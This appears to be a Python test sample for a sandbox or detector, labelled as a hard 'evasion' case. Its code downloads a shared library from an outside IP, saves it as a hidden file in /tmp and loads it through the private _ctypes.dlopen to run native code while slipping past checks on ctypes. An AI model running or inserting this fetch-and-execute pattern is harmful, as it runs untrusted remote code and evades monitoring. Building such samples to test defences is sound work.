# evasion: the private _ctypes module dlopens a library directly
# grade: hard; does: native
import _ctypes
import urllib.request

with open("/tmp/.libz.so", "wb") as f:
    f.write(urllib.request.urlopen("http://203.0.113.7/l.so").read())
_ctypes.dlopen("/tmp/.libz.so", 2)
